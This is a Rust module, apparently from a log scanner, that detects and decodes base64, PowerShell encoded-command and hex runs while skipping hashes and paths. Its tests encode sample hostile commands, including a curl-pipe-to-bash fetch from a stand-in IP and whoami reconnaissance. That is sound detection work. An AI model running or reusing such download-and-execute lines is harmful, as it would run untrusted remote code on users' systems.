//! Finding encoded runs in text and deciding which are real payloads.
//!
//! The patterns are loose (any long base64-alphabet run); the decision is
//! made on what a run decodes to, because look-alikes are common in logs:
//! hex hashes are valid base64, and long slash paths are too.

use std::sync::OnceLock;

use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use base64::Engine;
use regex::Regex;

use super::magic;

/// How a run is encoded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Encoding {
    /// Base64 of bytes (UTF-8 text or binary).
    Base64,
    /// Base64 of UTF-16LE text: PowerShell `-EncodedCommand`.
    Utf16Base64,
    /// Hex digits, plain or `\xNN`.
    Hex,
}

impl Encoding {
    /// The `encoding_type` column value.
    pub(crate) fn name(self) -> &'static str {
        match self {
            Encoding::Base64 => "base64",
            Encoding::Utf16Base64 => "utf16le_base64",
            Encoding::Hex => "hex",
        }
    }
}

/// A decoded run of a text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Run {
    /// Byte span in the text.
    pub start: usize,
    /// End of the span (exclusive).
    pub end: usize,
    /// How it was encoded.
    pub encoding: Encoding,
    /// The decoded bytes.
    pub bytes: Vec<u8>,
}

struct Patterns {
    powershell: Regex,
    base64: Regex,
    hex: Regex,
    escaped_hex: Regex,
}

fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    // Constant patterns compiled by the tests: they cannot fail here.
    P.get_or_init(|| Patterns {
        // -e, -ec, -en, -enc, … -EncodedCommand: PowerShell accepts any
        // unambiguous prefix of the parameter name.
        powershell: Regex::new(
            r"(?i)(?:^|[\s\x22'])[-/](?:e|ec|en|enc|enco|encod|encode|encoded|encodedc|encodedco|encodedcom|encodedcomm|encodedcomma|encodedcomman|encodedcommand)\s+[\x22']?([A-Za-z0-9+/]{8,}={0,2})",
        )
        .expect("powershell pattern"),
        base64: Regex::new(r"[A-Za-z0-9+/]{16,}={0,2}").expect("base64 pattern"),
        hex: Regex::new(r"(?-u:\b)(?:[0-9A-Fa-f]{2}){8,}(?-u:\b)").expect("hex pattern"),
        escaped_hex: Regex::new(r"(?:\\x[0-9A-Fa-f]{2}){8,}").expect("escaped hex pattern"),
    })
}

fn engine() -> &'static GeneralPurpose {
    static E: OnceLock<GeneralPurpose> = OnceLock::new();
    E.get_or_init(|| {
        GeneralPurpose::new(
            &alphabet::STANDARD,
            GeneralPurposeConfig::new()
                .with_decode_padding_mode(DecodePaddingMode::Indifferent)
                .with_decode_allow_trailing_bits(true),
        )
    })
}

/// Decodes base64 leniently: padding optional, a dangling last character dropped.
pub(crate) fn base64_bytes(run: &str) -> Option<Vec<u8>> {
    let trimmed = run.trim_end_matches('=');
    // One character past a multiple of four carries no whole byte.
    let usable = if trimmed.len() % 4 == 1 {
        trimmed.len() - 1
    } else {
        trimmed.len()
    };
    engine().decode(&trimmed[..usable]).ok()
}

/// Whether bytes are mostly printable text (tabs and newlines count).
fn is_text(s: &str) -> bool {
    let total = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
        .count();
    total > 0 && printable * 10 >= total * 9
}

/// UTF-16LE text as PowerShell writes it, or `None`.
/// Keeps a decoded hex run only when it is a known file type or text: most
/// hex in logs (ids, keys) decodes to noise.
fn push_hex(runs: &mut Vec<Run>, start: usize, end: usize, bytes: Vec<u8>) {
    if magic::identify(&bytes).is_some() || utf8_text(&bytes).is_some() {
        runs.push(Run {
            start,
            end,
            encoding: Encoding::Hex,
            bytes,
        });
    }
}

pub(crate) fn utf16le_text(bytes: &[u8]) -> Option<String> {
    if bytes.len() < 2 || bytes.len() % 2 != 0 {
        return None;
    }
    let units = bytes
        .chunks_exact(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]));
    let s: String = char::decode_utf16(units)
        .map(|c| c.unwrap_or(char::REPLACEMENT_CHARACTER))
        .collect();
    (is_text(&s) && !s.contains(char::REPLACEMENT_CHARACTER)).then_some(s)
}

/// UTF-8 text, or `None`.
pub(crate) fn utf8_text(bytes: &[u8]) -> Option<String> {
    let s = std::str::from_utf8(bytes).ok()?;
    is_text(s).then(|| s.to_string())
}

/// Whether a decoded run is a payload worth reporting: text, a known file
/// type, or a long binary blob with no `/` (slash paths decode to short
/// binary noise and are the common false positive).
fn plausible(run: &str, bytes: &[u8]) -> bool {
    magic::identify(bytes).is_some()
        || utf8_text(bytes).is_some()
        || utf16le_text(bytes).is_some()
        || (run.len() >= 64 && !run.contains('/'))
}

/// Every decodable run in `text`, in order, without overlaps.
pub(crate) fn find_runs(
    text: &str,
    min_base64_len: usize,
    min_hex_len: usize,
    hex: bool,
) -> Vec<Run> {
    let p = patterns();
    let mut runs: Vec<Run> = Vec::new();
    let overlaps = |runs: &[Run], s: usize, e: usize| runs.iter().any(|r| s < r.end && r.start < e);

    for caps in p.powershell.captures_iter(text) {
        let Some(m) = caps.get(1) else { continue };
        if let Some(bytes) = base64_bytes(m.as_str()) {
            if utf16le_text(&bytes).is_some() || magic::identify(&bytes).is_some() {
                runs.push(Run {
                    start: m.start(),
                    end: m.end(),
                    encoding: Encoding::Utf16Base64,
                    bytes,
                });
            }
        }
    }
    for m in p.base64.find_iter(text) {
        let s = m.as_str();
        if s.len() < min_base64_len || overlaps(&runs, m.start(), m.end()) {
            continue;
        }
        // Hex-only runs (hashes) are hex candidates, not base64.
        if s.trim_end_matches('=')
            .bytes()
            .all(|b| b.is_ascii_hexdigit())
        {
            continue;
        }
        let Some(bytes) = base64_bytes(s) else {
            continue;
        };
        if !plausible(s, &bytes) {
            continue;
        }
        let encoding = if utf8_text(&bytes).is_none() && utf16le_text(&bytes).is_some() {
            Encoding::Utf16Base64
        } else {
            Encoding::Base64
        };
        runs.push(Run {
            start: m.start(),
            end: m.end(),
            encoding,
            bytes,
        });
    }
    if hex {
        for m in p.hex.find_iter(text) {
            let s = m.as_str();
            // Exactly hash-sized runs are hashes: leave them alone.
            if s.len() < min_hex_len
                || matches!(s.len(), 32 | 40 | 64 | 128)
                || overlaps(&runs, m.start(), m.end())
            {
                continue;
            }
            if let Ok(bytes) = hex::decode(s) {
                push_hex(&mut runs, m.start(), m.end(), bytes);
            }
        }
        for m in p.escaped_hex.find_iter(text) {
            if overlaps(&runs, m.start(), m.end()) {
                continue;
            }
            let digits: String = m.as_str().split("\\x").collect();
            if let Ok(bytes) = hex::decode(digits) {
                push_hex(&mut runs, m.start(), m.end(), bytes);
            }
        }
    }
    runs.sort_by_key(|r| r.start);
    runs
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::engine::general_purpose::STANDARD;

    fn runs(text: &str) -> Vec<Run> {
        find_runs(text, 30, 32, true)
    }

    #[test]
    fn base64_text_is_found() {
        let b64 = STANDARD.encode("curl -fsSL http://203.0.113.50/x.sh | bash");
        let r = runs(&format!("echo {b64} | base64 -d | sh"));
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].encoding, Encoding::Base64);
        assert_eq!(r[0].bytes, b"curl -fsSL http://203.0.113.50/x.sh | bash");
    }

    #[test]
    fn powershell_prefixes_decode_as_utf16() {
        let cmd: Vec<u8> = "Get-Process | Stop-Process"
            .encode_utf16()
            .flat_map(u16::to_le_bytes)
            .collect();
        let b64 = STANDARD.encode(&cmd);
        for flag in ["-enc", "-e", "-EncodedCommand", "-ENCODEDC", "/ec"] {
            let r = runs(&format!("powershell.exe -nop {flag} {b64}"));
            assert_eq!(r.len(), 1, "{flag}");
            assert_eq!(r[0].encoding, Encoding::Utf16Base64);
        }
    }

    #[test]
    fn look_alikes_are_not_payloads() {
        let md5 = "d41d8cd98f00b204e9800998ecf8427e";
        let sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
        assert!(runs(&format!("md5 {md5} sha256 {sha256}")).is_empty());
        assert!(runs("/usr/local/lib/python3/dist/packages/module/sub/file").is_empty());
        assert!(runs("short aGVsbG8=").is_empty());
        assert!(runs("").is_empty());
        assert!(runs("ünïcödé text without payloads ✓").is_empty());
    }

    #[test]
    fn hex_runs() {
        let h = hex::encode("cmd.exe /c whoami /all & ping");
        let r = runs(&format!("payload {h} end"));
        assert_eq!(r.len(), 1);
        assert_eq!(r[0].encoding, Encoding::Hex);
        let escaped: String = b"powershell -c id"
            .iter()
            .map(|b| format!("\\x{b:02x}"))
            .collect();
        let r = runs(&escaped);
        assert_eq!(r[0].bytes, b"powershell -c id");
    }

    #[test]
    fn lenient_base64() {
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQ").unwrap(), b"hello world");
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQ=").unwrap(), b"hello world");
        assert_eq!(base64_bytes("aGVsbG8gd29ybGQhx").unwrap(), b"hello world!");
    }
}
